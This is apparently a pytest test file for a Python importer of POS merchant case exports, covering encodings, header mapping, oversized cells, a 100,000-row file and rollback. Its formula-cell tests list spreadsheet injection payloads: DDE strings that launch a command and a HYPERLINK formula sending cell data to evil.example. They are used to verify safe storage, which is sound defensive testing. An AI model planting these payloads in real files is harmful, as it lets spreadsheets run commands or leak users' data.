"""Hostile and awkward case exports: encodings, column order, formula cells, 10^5 rows.

Every file either imports correctly or is rejected as a whole with the line at fault.
"""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Iterator
from pathlib import Path

import pytest
from sqlalchemy import select, text
from sqlalchemy.exc import SQLAlchemyError

from bot.cli.main import EXIT_BAD_INPUT, EXIT_OK, main
from bot.store.database import CaseStore
from bot.store.importer import COLUMNS, CsvImportError, RowError, import_cases_csv
from bot.store.models import Case, CaseEvent, Merchant, Terminal
from bot.store.seed import seed_demo_data
from tests.bot.store.test_importer import (
    CASE_NEEDS_DOCS,
    CASE_REJECTED,
    EMPTY,
    GOOD_ROWS,
    MERCHANT_A,
    MERCHANT_B,
    NOW,
    TERMINAL_ONLY,
    changed,
    counts,
    csv_text,
    write_csv,
)

BIG_ROWS = 100_000
BAD_LINE = 99_999


@pytest.fixture
def store(tmp_path: Path) -> Iterator[CaseStore]:
    case_store = CaseStore(f"sqlite:///{tmp_path / 'hostile.db'}")
    case_store.create_schema()
    yield case_store
    case_store.dispose()


def errors_of(store: CaseStore, path: Path, encoding: str = "utf-8") -> list[RowError]:
    with pytest.raises(CsvImportError) as caught:
        import_cases_csv(store, path, now=NOW, encoding=encoding)
    return caught.value.errors


def snapshot(store: CaseStore) -> dict[str, list[tuple]]:
    """Every row of the tables the importer writes, to prove a failed import changed nothing."""
    with store.session() as session:
        return {
            model.__tablename__: sorted(
                tuple(str(getattr(item, column.key)) for column in model.__table__.columns)
                for item in session.execute(select(model)).scalars()
            )
            for model in (Merchant, Terminal, Case, CaseEvent)
        }


def merchant_names(store: CaseStore) -> dict[str, str]:
    with store.session() as session:
        return {m.merchant_id: m.name for m in session.execute(select(Merchant)).scalars()}


# --------------------------------------------------------------------------- encodings


@pytest.mark.parametrize("encoding", ["gbk", "gb18030", "GBK"])
def test_gbk_file_imports_with_its_encoding(
    store: CaseStore, tmp_path: Path, encoding: str
) -> None:
    path = write_csv(tmp_path / "gbk.csv", csv_text(GOOD_ROWS), encoding="gbk")

    result = import_cases_csv(store, path, now=NOW, encoding=encoding)

    assert (result.rows, result.cases_created) == (3, 2)
    assert merchant_names(store) == {MERCHANT_A: "张记小吃店", MERCHANT_B: "李四便利店"}
    with store.session() as session:
        assert session.get(Case, "JC202611180002").rejection_reason == "还款证明不清晰"


def test_gbk_file_read_as_utf8_is_rejected_with_a_hint(store: CaseStore, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "gbk.csv", csv_text(GOOD_ROWS), encoding="gbk")

    [error] = errors_of(store, path)

    assert error.line == 2
    assert "not valid UTF-8" in error.message
    assert "GBK/GB18030" in error.message and "--encoding gb18030" in error.message
    assert counts(store) == EMPTY


def test_utf8_file_with_bom_read_as_gbk_is_rejected_not_garbled(
    store: CaseStore, tmp_path: Path
) -> None:
    path = tmp_path / "bom.csv"
    path.write_bytes(csv_text(GOOD_ROWS).encode("utf-8-sig"))

    [error] = errors_of(store, path, encoding="gbk")

    assert error.line == 2
    assert "not valid GB18030/GBK" in error.message
    assert "the file is UTF-8: import it without --encoding" in error.message
    assert counts(store) == EMPTY


def mixed_file(path: Path) -> Path:
    """Line 2 in UTF-8, line 3 in GBK, line 4 in UTF-8: an export pasted together."""
    lines = csv_text(GOOD_ROWS).split("\r\n")
    data = "\r\n".join(lines[:2]).encode("utf-8") + b"\r\n"
    data += lines[2].encode("gbk") + b"\r\n" + "\r\n".join(lines[3:]).encode("utf-8")
    path.write_bytes(data)
    return path


def test_mixed_encodings_are_rejected_whatever_the_encoding(
    store: CaseStore, tmp_path: Path
) -> None:
    path = mixed_file(tmp_path / "mixed.csv")

    [as_utf8] = errors_of(store, path)
    [as_gbk] = errors_of(store, path, encoding="gb18030")

    assert as_utf8.line == 3
    assert "not valid UTF-8" in as_utf8.message
    assert "mixed encodings: line 2 is UTF-8" in as_utf8.message
    assert as_gbk.line == 2
    assert "mixed encodings: line 2 is UTF-8" in as_gbk.message
    assert counts(store) == EMPTY


@pytest.mark.parametrize("encoding", ["utf-8", "gb18030"])
def test_bytes_invalid_in_every_encoding_name_their_line(
    store: CaseStore, tmp_path: Path, encoding: str
) -> None:
    ascii_case = changed(CASE_NEEDS_DOCS, merchant_name="Zhang", missing_documents="licence")
    rows = [ascii_case, changed(TERMINAL_ONLY, merchant_name="@@NAME@@")]
    data = csv_text(rows).encode("utf-8").replace(b"@@NAME@@", b"shop\xff\x80")
    (tmp_path / "bad.csv").write_bytes(data)

    errors = errors_of(store, tmp_path / "bad.csv", encoding=encoding)

    assert [error.line for error in errors] == [3]
    assert "is not valid" in errors[0].message
    assert counts(store) == EMPTY


def test_utf16_export_is_rejected(store: CaseStore, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "utf16.csv", csv_text(GOOD_ROWS), encoding="utf-16")

    [error] = errors_of(store, path)

    assert error.line == 1
    assert "not valid UTF-8" in error.message
    assert counts(store) == EMPTY


def test_unknown_encoding_is_refused(store: CaseStore, tmp_path: Path) -> None:
    path = write_csv(tmp_path / "cases.csv", csv_text(GOOD_ROWS))
    with pytest.raises(ValueError, match="unsupported encoding 'latin-1'"):
        import_cases_csv(store, path, now=NOW, encoding="latin-1")


def test_cli_imports_gbk_only_when_told(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("POSBOT_DB_URL", f"sqlite:///{tmp_path / 'cli.db'}")
    path = write_csv(tmp_path / "gbk.csv", csv_text(GOOD_ROWS), encoding="gbk")

    assert main(["db", "import", str(path)]) == EXIT_BAD_INPUT
    assert "--encoding gb18030" in capsys.readouterr().err
    assert main(["db", "import", "--encoding", "gbk", str(path)]) == EXIT_OK
    assert "imported 3 rows: cases 2 new" in capsys.readouterr().out


# --------------------------------------------------------------------------- structure


def test_shuffled_and_decorated_header_maps_by_name(store: CaseStore, tmp_path: Path) -> None:
    columns = list(COLUMNS)
    random.Random(4).shuffle(columns)
    text_ = csv_text(GOOD_ROWS, columns=columns)
    header, rest = text_.split("\r\n", 1)
    decorated = ",".join(f" {name.upper()} " for name in header.split(","))
    path = write_csv(tmp_path / "cases.csv", f"{decorated}\r\n{rest}")

    result = import_cases_csv(store, path, now=NOW)

    assert (result.rows, result.cases_created, result.terminals_created) == (3, 2, 3)
    with store.session() as session:
        case = session.get(Case, "JC202611180001")
        assert (case.merchant_id, case.terminal_id, case.status) == (
            MERCHANT_A,
            "60013452",
            "needs_documents",
        )
        assert case.missing_documents == "营业执照;法人身份证"


def test_a_header_of_another_export_names_the_columns(store: CaseStore, tmp_path: Path) -> None:
    columns = [*COLUMNS[:3], "mobile", *COLUMNS[4:]]
    path = write_csv(tmp_path / "cases.csv", csv_text(GOOD_ROWS, columns=columns))

    errors = errors_of(store, path)

    assert [str(error) for error in errors] == [
        "line 1: missing required column(s): registered_phone",
        "line 1: unexpected column(s): mobile",
    ]
    assert counts(store) == EMPTY


@pytest.mark.parametrize(
    ("payload", "reason"),
    [
        ("x" * 200_000, "field larger than field limit"),
        ("nul\x00byte", "line contains NUL"),
    ],
    ids=["huge-cell", "nul-byte"],
)
def test_unparseable_cells_reject_the_file(
    store: CaseStore, tmp_path: Path, payload: str, reason: str
) -> None:
    rows = [CASE_NEEDS_DOCS, changed(CASE_REJECTED, rejection_reason="@@CELL@@")]
    path = write_csv(tmp_path / "cases.csv", csv_text(rows).replace("@@CELL@@", payload))

    errors = errors_of(store, path)

    assert [error.line for error in errors] == [3]
    assert reason in errors[0].message
    assert counts(store) == EMPTY


# --------------------------------------------------------------------------- formula cells

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    "\t=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_are_stored_verbatim_as_data(
    store: CaseStore, tmp_path: Path, formula: str
) -> None:
    rows = [
        changed(CASE_NEEDS_DOCS, merchant_name=formula, missing_documents=formula),
        changed(CASE_REJECTED, merchant_name=formula, rejection_reason=formula),
    ]

    import_cases_csv(store, write_csv(tmp_path / "cases.csv", csv_text(rows)), now=NOW)

    expected = formula.strip()  # cells are trimmed, as every cell is
    with store.session() as session:
        assert session.get(Merchant, MERCHANT_A).name == expected
        assert session.get(Case, "JC202611180002").rejection_reason == expected
        assert session.get(Case, "JC202611180001").missing_documents == expected


@pytest.mark.parametrize("column", ["merchant_id", "terminal_id", "registered_phone", "case_id"])
def test_formula_in_an_identifier_is_a_bad_row(
    store: CaseStore, tmp_path: Path, column: str
) -> None:
    row = changed(CASE_NEEDS_DOCS, **{column: "=1+1"})
    path = write_csv(tmp_path / "cases.csv", csv_text([row, TERMINAL_ONLY]))

    errors = errors_of(store, path)

    assert [(error.line, error.message.split(" ")[0]) for error in errors] == [(2, column)]
    assert counts(store) == EMPTY


# --------------------------------------------------------------------------- 10^5 rows


def big_row(index: int) -> list[str]:
    """Row ``index``: two terminals per merchant, four in five with a case."""
    has_case = index % 5 != 0
    return [
        f"JC2026{index:08d}" if has_case else "",
        f"8983{index // 2:011d}",
        f"商户{index // 2}号店",
        f"138{index // 2:08d}",
        f"{10_000_000 + index}",
        ("traditional", "e_sign", "smart")[index % 3],
        "account_arrears",
        "2026-11-01",
        ("submitted", "under_review", "needs_documents", "approved")[index % 4] if has_case else "",
        "2026-11-02T09:00:00" if has_case else "",
        "2026-11-03" if has_case else "",
        "",
        "营业执照;还款证明" if has_case and index % 4 == 2 else "",
    ]


@pytest.fixture(scope="module")
def big_export(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A 10^5-row export (about 14 MB), written once for the module."""
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    writer.writerows(big_row(index) for index in range(BIG_ROWS))
    path = tmp_path_factory.mktemp("big") / "export.csv"
    path.write_text(buffer.getvalue(), encoding="utf-8")
    return path


def test_100k_rows_import_correctly(store: CaseStore, big_export: Path) -> None:
    result = import_cases_csv(store, big_export, now=NOW)

    cases = BIG_ROWS * 4 // 5
    assert (result.rows, result.merchants_created, result.terminals_created) == (
        BIG_ROWS,
        BIG_ROWS // 2,
        BIG_ROWS,
    )
    assert (result.cases_created, result.cases_updated) == (cases, 0)
    assert counts(store) == {
        "merchants": BIG_ROWS // 2,
        "terminals": BIG_ROWS,
        "cases": cases,
        "case_events": cases,
    }
    with store.session() as session:
        for index in (0, 1, 2, BAD_LINE - 2, BIG_ROWS - 1):
            cells = dict(zip(COLUMNS, big_row(index), strict=True))
            terminal = session.get(Terminal, cells["terminal_id"])
            assert (terminal.merchant_id, terminal.pos_type) == (
                cells["merchant_id"],
                cells["pos_type"],
            )
            merchant = session.get(Merchant, cells["merchant_id"])
            assert (merchant.name, merchant.registered_phone) == (
                cells["merchant_name"],
                cells["registered_phone"],
            )
            if cells["case_id"]:
                case = session.get(Case, cells["case_id"])
                assert (case.terminal_id, case.status, case.missing_documents) == (
                    cells["terminal_id"],
                    cells["status"],
                    cells["missing_documents"],
                )


def test_one_bad_row_at_line_99999_leaves_the_store_unchanged(
    store: CaseStore, big_export: Path, tmp_path: Path
) -> None:
    seed_demo_data(store, now=NOW)
    before = snapshot(store)
    lines = big_export.read_bytes().decode("utf-8").split("\r\n")
    lines[BAD_LINE - 1] = lines[BAD_LINE - 1].replace(",account_arrears,", ",欠款太多,", 1)
    bad = write_csv(tmp_path / "bad.csv", "\r\n".join(lines))

    errors = errors_of(store, bad)

    assert [error.line for error in errors] == [BAD_LINE]
    assert "suspension_reason '欠款太多' is not one of" in errors[0].message
    assert snapshot(store) == before


def test_a_database_failure_on_the_last_rows_rolls_everything_back(
    store: CaseStore, tmp_path: Path
) -> None:
    """The store refuses one terminal near the end (a trigger): nothing at all is kept."""
    seed_demo_data(store, now=NOW)
    before = snapshot(store)
    rows = 20_000
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow(COLUMNS)
    writer.writerows(big_row(index) for index in range(rows))
    path = write_csv(tmp_path / "export.csv", buffer.getvalue())
    doomed = f"{10_000_000 + rows - 2}"
    with store.engine.begin() as connection:
        connection.execute(
            text(
                "CREATE TRIGGER refuse_terminal BEFORE INSERT ON terminals "
                f"WHEN NEW.terminal_id = '{doomed}' "
                "BEGIN SELECT RAISE(ABORT, 'refused by the test'); END"
            )
        )

    with pytest.raises(SQLAlchemyError, match="refused by the test"):
        import_cases_csv(store, path, now=NOW)

    assert snapshot(store) == before
